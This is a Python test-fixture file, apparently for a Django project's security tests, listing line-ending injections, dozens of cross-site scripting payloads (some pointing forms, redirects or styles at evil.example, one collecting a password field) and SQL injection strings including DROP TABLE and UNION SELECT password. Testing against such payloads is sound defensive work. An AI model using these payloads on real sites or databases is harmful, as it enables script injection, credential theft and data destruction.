"""What an attacker would write, for the tests of this folder: classic payloads, each with what it is after."""

LINE_ENDS = ["\r\n", "\n", "\r", "%0d%0a", "%0a", "\u2028", "\x85", "\u560d\u560a"]  # the last loses its upper byte

# Cross-site scripting. All call `alert`, so that a browser would show that one of them ran.
SCRIPTS = {
    "a script": "<script>alert(1)</script>",
    "an attribute that acts": "<img src=x onerror=alert(1)>",
    "out of an attribute": '"><svg onload=alert(1)>',
    "out of an attribute in single quotes": "'><svg onload=alert(1)>",
    "an attribute of ours": '" autofocus onfocus=alert(1) x="',
    "an attribute without quotes": " onmouseover=alert(1) ",
    "out of a script": "</script><script>alert(1)</script>",
    "out of a title": "</title><script>alert(1)</script>",
    "out of a text area": "</textarea><script>alert(1)</script>",
    "out of a comment": "--><script>alert(1)</script><!--",
    "out of JSON": '"}</script><script>alert(1)</script>',
    "a template of a browser": "{{constructor.constructor('alert(1)')()}}${alert(1)}",
    "a template of Django": "{% debug %}{{ request }}{% include 'x' %}",
    "an entity": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;alert(1)",
    "a tag that is never closed": "<img src=x onerror=alert(1) ",
    "a tag with a null": "<scr\ufffdipt>alert(1)</scr\ufffdipt>",
    "a drawing": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "a formula": "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "another page within": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "another place for links": "<base href=https://evil.example/>",
    "a form of another site": "<form action=https://evil.example/><input name=password>",
    "a page that leads on": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "a style": "<style>*{background:url(https://evil.example/)}</style>",
    "an attribute of htmx": "<div hx-get=https://evil.example/ hx-trigger=load hx-on:load=alert(1)>",
    "mutation in a table": "<table><a href='javascript:alert(1)'><style><!--</style><img src=x onerror=alert(1)>-->",
    "Markdown: a script's address": "[x](javascript:alert(1))",
    "Markdown: an address in disguise": "[x](&#106;avascript:alert(1)) <javascript:alert(1)>",
    "Markdown: data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "Markdown: a picture": '![x](x"onerror="alert(1))',
    "Markdown: out of a title": '[x](https://e.example "a\\" onclick=\\"alert(1)")',
    "Markdown: HTML in code": "```<script>\nalert(1)\n```\n`<img src=x onerror=alert(1)>`",
    "Markdown: a reference": "[x]\n\n[x]: javascript:alert(1)",
}

# SQL injection. Each holds MARK, which must reach the database as a value and never within a statement.
MARK = "zq7mark"
INJECTIONS = [
    f"{MARK}' OR '1'='1",
    f"{MARK}' OR 1=1 --",
    f"{MARK}'; DROP TABLE events_event; --",
    f"{MARK}' UNION SELECT password FROM accounts_user --",  # noqa: S608 - it is meant to be one
    f"{MARK}') OR pg_sleep(5) IS NULL --",
    f'{MARK}" OR ""="',
    f"{MARK}\\' OR 1=1 --",
    f"{MARK}%' OR title LIKE '%",
    f"{MARK}$$ OR 1=1 $$",
    f"{MARK}%s%(x)s{{}}",
    f"timestamp, (SELECT 1/0 AS {MARK})",
    f"{MARK}__password",
    f"1 AND 1=(SELECT 1 AS {MARK})",
]
